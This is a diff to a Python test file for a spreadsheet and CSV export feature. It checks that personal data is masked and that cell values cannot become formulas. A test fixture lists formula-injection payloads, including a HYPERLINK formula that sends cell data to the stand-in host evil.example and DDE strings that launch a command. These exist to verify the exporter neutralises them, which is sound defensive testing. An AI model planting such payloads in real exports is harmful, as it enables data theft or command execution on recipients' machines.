@@ -13,7 +13,7 @@ import uuid
 import zipfile
 from collections.abc import AsyncIterator, Iterator
 from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, date, datetime, timedelta
 
 import pytest
 from openpyxl import Workbook, load_workbook
@@ -452,11 +452,9 @@ async def test_xlsx_has_five_sheets_with_headers_and_masked_niks(db: Database) -
     assert wb.sheetnames == [*SHEETS, SUMMARY]
     rows = list(wb["registrants"].iter_rows(values_only=True))
     header = rows[0]
-    assert header[:4] == ("id", "created_at_wib", "full_name", "nik")
-    niks = {row[header.index("full_name")]: row[header.index("nik")] for row in rows[1:]}
-    assert len(niks) == 5
-    assert all(nik.startswith("*" * 12) and len(nik) == 16 for nik in niks.values())
-    assert niks["Ani"] == "*" * 12 + "0001"
+    assert header[:4] == ("id", "created_at_wib", "initials", "nik_given")
+    niks = {row[header.index("initials")]: row[header.index("nik_given")] for row in rows[1:]}
+    assert niks == {"A.": True, "B.": True, "C.": True, "D.": True, "E.": True}
     assert result.counts == {
         "registrants": 5,
         "decisions": 5,
@@ -494,11 +492,125 @@ async def test_csv_option_is_a_zip_of_the_five_tables(db: Database) -> None:
         assert sorted(zf.namelist()) == sorted(f"{n}.csv" for n in (*SHEETS, SUMMARY))
         text = zf.read("registrants.csv").decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(text)))
-    assert len(rows) == 5 and all(r["nik"].startswith("*" * 12) for r in rows)
+    assert len(rows) == 5 and all(r["nik_given"] == "True" and "nik" not in r for r in rows)
     tables = await read_tables(db)
     unmasked = build_csv_zip(tables, masked=False)
     with zipfile.ZipFile(io.BytesIO(unmasked)) as zf:
         assert female_nik(1) in zf.read("registrants.csv").decode("utf-8-sig")
+
+
+# Each of these makes a spreadsheet cell a formula (or a command, in old Excel).
+ATTACKS = {
+    "address": '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
+    "occupation_other": "+cmd|' /C calc'!A0",
+    "full_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "business_kind": "-2+3+cmd|' /C calc'!A0",
+    "obstacle_other": "\t=1+1",
+    "class_title": "\r=1+1",
+}
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def seed_attacks(db: Database) -> None:
+    async with db.transaction() as s:
+        seed = Seeder(s)
+        woman = await seed.woman(name=ATTACKS["full_name"])
+        woman.address = ATTACKS["address"]
+        woman.occupation_other = ATTACKS["occupation_other"]
+        klass = await seed.klass(title=ATTACKS["class_title"])
+        e = await seed.enrol(woman, klass, completed=True)
+        await seed.checkin(
+            e,
+            30,
+            bracket=4,
+            business=True,
+            business_kind=ATTACKS["business_kind"],
+            obstacle="lainnya",
+            obstacle_other=ATTACKS["obstacle_other"],
+        )
+
+
+@pytest.mark.parametrize("masked", [True, False])
+async def test_no_xlsx_or_csv_cell_is_a_formula(db: Database, masked: bool) -> None:
+    await seed_attacks(db)
+    result = await export(db, ME, "xlsx", masked=masked, update_id=None)
+    assert result is not None
+    wb = load_workbook(io.BytesIO(result.data))  # not read-only: data_type as stored
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    assert not cell.value.startswith(DANGEROUS), (ws.title, cell.value)
+                    texts.append(cell.value)
+    assert "'" + ATTACKS["business_kind"] in texts  # kept, as text
+    assert any(t.startswith("'") and t.endswith("=1+1") for t in texts), [
+        t for t in texts if "=1+1" in t
+    ]
+    if not masked:
+        assert "'" + ATTACKS["address"] in texts and "'" + ATTACKS["full_name"] in texts
+
+    zipped = await export(db, ME, "csv", masked=masked, update_id=None)
+    assert zipped is not None
+    values = []
+    with zipfile.ZipFile(io.BytesIO(zipped.data)) as zf:
+        for name in zf.namelist():
+            text = zf.read(name).decode("utf-8-sig")
+            for row in csv.reader(io.StringIO(text, newline="")):
+                for value in row:
+                    assert not value.startswith(DANGEROUS), (name, value)
+                    values.append(value)
+    assert "'" + ATTACKS["obstacle_other"] in values
+    if not masked:
+        assert "'" + ATTACKS["occupation_other"] in values
+
+
+NIK = "3579035203807351"  # Junrejo, a woman born 12 March 1980, serial 7351
+
+
+async def test_masked_export_holds_nothing_to_rebuild_who_she_is(db: Database) -> None:
+    async with db.transaction() as s:
+        seed = Seeder(s)
+        siti = await seed.woman(name="Siti Nur Aminah", nik=NIK, phone="+628521234890")
+        siti.birth_date = date(1980, 3, 12)
+        siti.address = "Jl. Mawar 5, RT 02 RW 03"
+        siti.monthly_income = "350000"
+        k = await seed.klass()
+        e = await seed.enrol(siti, k, completed=True)
+        await seed.checkin(e, 30, bracket=6, change="rose")
+    at = date.today()
+    band = (at.year - 1980 - ((at.month, at.day) < (3, 12))) // 5 * 5
+    result = await export(db, ME, "xlsx", masked=True, update_id=None)
+    assert result is not None and "lengkap" not in result.filename
+    wb = load_workbook(io.BytesIO(result.data), read_only=True)
+    header, row = list(wb["registrants"].iter_rows(values_only=True))
+    got = dict(zip(header, row, strict=False))
+    assert not {"full_name", "nik", "birth_date", "address", "monthly_income"} & set(header)
+    assert got["initials"] == "S. N. A."
+    assert got["nik_given"] is True
+    assert got["age_band"] == f"{band}-{band + 4}"
+    assert got["phone"] == "0852****890"
+    assert got["monthly_income_range"] == "300000-399999"
+    checkin_header, checkin = list(wb["checkins"].iter_rows(values_only=True))
+    assert dict(zip(checkin_header, checkin, strict=False))["income_range"] == "600000-699999"
+    assert "income" not in checkin_header
+    cells = [str(v) for ws in wb.worksheets for r in ws.iter_rows(values_only=True) for v in r if v]
+    for secret in (NIK[-4:], NIK[6:12], "Aminah", "Mawar", "350000", "1980"):
+        assert not any(secret in c for c in cells), secret
+    assert 350_000 not in cells and 600_000 not in cells
+
+    full = await export(db, ME, "xlsx", masked=False, update_id=None)
+    assert full is not None
+    header, row = list(
+        load_workbook(io.BytesIO(full.data), read_only=True)["registrants"].iter_rows(
+            values_only=True
+        )
+    )
+    got = dict(zip(header, row, strict=False))
+    assert (got["full_name"], got["nik"], got["phone"]) == ("Siti Nur Aminah", NIK, "08521234890")
+    assert got["monthly_income"] == 350_000 and got["address"] == "Jl. Mawar 5, RT 02 RW 03"
 
 
 def test_full_data_confirmation_cannot_be_forged_or_reused_late() -> None:
